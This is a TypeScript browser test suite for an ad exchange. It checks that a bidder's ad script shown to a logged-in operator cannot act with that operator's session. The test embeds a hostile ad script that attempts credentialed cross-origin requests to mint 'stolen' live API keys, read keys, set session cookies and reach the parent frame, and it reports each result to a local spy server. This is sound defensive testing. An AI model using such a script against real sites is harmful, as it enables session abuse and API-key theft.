import { expect } from 'chai';
import type { Browser } from 'playwright-core';
import { bids } from '../support/bidder.ts';
import { BROWSER_USER_AGENT } from '../support/browser.ts';
import { launchChromium } from '../support/chromium.ts';
import { eventually } from '../support/eventually.ts';
import { callJson } from '../support/exchange.ts';
import { type PublisherSite, startPublisherSite } from '../support/publisher-site.ts';
import { againstExchange } from './against-exchange.ts';
import type { Market } from './market.ts';

/**
 * API and edge on one host name, 127.0.0.1, with an operator logged in: what a bidder's script can do with that. It
 * tries each way and tells its own server what came of it.
 */
againstExchange('the origin of ads', (exchange) => {
  let browser: Browser;
  let spy: PublisherSite;
  let market: Market;
  before(async function () {
    browser = await launchChromium(this);
    spy = await startPublisherSite();
    market = await exchange.market({ bidders: [{ script: bids({ price: 2.5 }) }] });
  });
  after(async () => {
    await browser?.close();
    await spy?.close();
  });

  const thief = () => `<div id="ad">an ad</div><script>
    const told = (what, went) => { new Image().src = ${JSON.stringify(spy.origin)} + '/tracked/' + what + '/' + went; };
    const tried = async (what, attempt) => { try { told(what, (await attempt()) ? 'done' : 'refused'); } catch { told(what, 'refused'); } };
    const api = ${JSON.stringify(exchange.running.baseUrl)};
    const key = (type, mode) => fetch(api + '/api/keys', { method: 'POST', credentials: 'include', mode,
      headers: { 'Content-Type': type }, body: JSON.stringify({ name: 'stolen', environment: 'live' }) });
    tried('key', async () => (await key('application/json', 'cors')).ok);
    tried('blind-key', async () => { await key('text/plain', 'no-cors'); return false; });
    tried('read', async () => (await fetch(api + '/api/keys', { credentials: 'include' })).ok);
    tried('cookie', async () => { document.cookie = 'exchange_session=x; path=/'; return document.cookie !== ''; });
    tried('storage', async () => { localStorage.setItem('a', 'b'); return true; });
    tried('edge', async () => (await fetch(${JSON.stringify(exchange.running.edgeUrl)} + '/sync?type=iframe&publisher_id=${market.publisherId}',
      { credentials: 'include' })).ok);
    tried('socket', () => new Promise((resolve) => {
      const socket = new WebSocket(api.replace('http', 'ws') + '/ws/metrics');
      socket.onopen = () => resolve(true); socket.onerror = () => resolve(false);
    }));
    tried('frame', async () => parent !== window && parent.document.cookie !== null);
  </script>`;
  const ATTEMPTS = ['key', 'blind-key', 'read', 'cookie', 'storage', 'edge', 'socket', 'frame'];

  const stats = async () => (await exchange.get(`/api/supply/sources/${market.publisherId}/stats?period=1h`)).body;
  const keys = async () => {
    const headers = { Cookie: await exchange.running.logIn() };
    const { status, body } = await callJson('GET', `${exchange.running.baseUrl}/api/keys`, undefined, headers);
    expect(status).to.equal(200);
    return JSON.stringify(body.keys ?? body).replaceAll(/"last_used_at":"[^"]*"/g, '');
  };

  /**
   * Sells the script, opens it in the browser of an operator and expects each attempt to fail, and the impression to be
   * booked.
   */
  const robs = async (open: (ad: string) => string): Promise<void> => {
    market.bidders[0]!.script = bids({ price: 2.5, adm: thief() });
    const before = { keys: await keys(), impressions: (await stats()).impressions as number };
    const told = (went: string) => ATTEMPTS.map((what) => spy.hits(`/tracked/${what}/${went}`));
    const [done, refused] = [told('done'), told('refused')];
    const context = await browser.newContext({ userAgent: BROWSER_USER_AGENT });
    const [name, value] = (await exchange.running.logIn()).split('=', 2) as [string, string];
    await context.addCookies([{ name, value, url: exchange.running.baseUrl, sameSite: 'Lax', httpOnly: true }]);
    const page = await context.newPage();
    await page.goto(open(`${exchange.running.edgeUrl}/ad?publisher_id=${market.publisherId}&format=banner&secure=0`));
    await eventually(
      'the script to have tried everything',
      () => told('refused').every((count, i) => count > refused[i]!),
      {
        timeoutMs: 60_000,
      },
    );
    expect(told('done')).to.deep.equal(done);
    expect(await context.cookies(exchange.running.baseUrl)).to.have.length(1);
    expect(await keys()).to.deep.equal(before.keys);
    await eventually('the impression to be booked', async () => (await stats()).impressions === before.impressions + 1);
    await context.close();
  };

  it('gives a bidder’s script that is opened as a page nothing of a logged-in operator', async () => {
    await robs((ad) => ad);
  });

  it('shows and bills an ad in a frame of a page, and gives its script nothing', async () => {
    await robs((ad) => spy.page('/frame', `<iframe width="300" height="250" src="${ad}"></iframe>`));
  });

  it('shows and bills an ad in a slot of the JS tag, and gives its script nothing', async () => {
    const slot = `<div id="s" data-ad-publisher="${market.publisherId}" data-ad-secure="0"></div>`;
    const tag = `<script async src="${exchange.running.edgeUrl}/tag.js"></script>`;
    await robs(() => spy.page('/tagged', slot + tag));
  });

  it('lets the operator’s own page do what the ad could not', async () => {
    const context = await browser.newContext({ userAgent: BROWSER_USER_AGENT });
    const [name, value] = (await exchange.running.logIn()).split('=', 2) as [string, string];
    await context.addCookies([{ name, value, url: exchange.running.baseUrl, sameSite: 'Lax', httpOnly: true }]);
    const page = await context.newPage();
    await page.goto(`${exchange.running.baseUrl}/docs`);
    const status = await page.evaluate(async () => {
      const body = JSON.stringify({ name: 'own', environment: 'sandbox' });
      const headers = { 'Content-Type': 'application/json' };
      return (await fetch('/api/keys', { method: 'POST', headers, body })).status;
    });
    expect(status).to.equal(201);
    await context.close();
  });
});
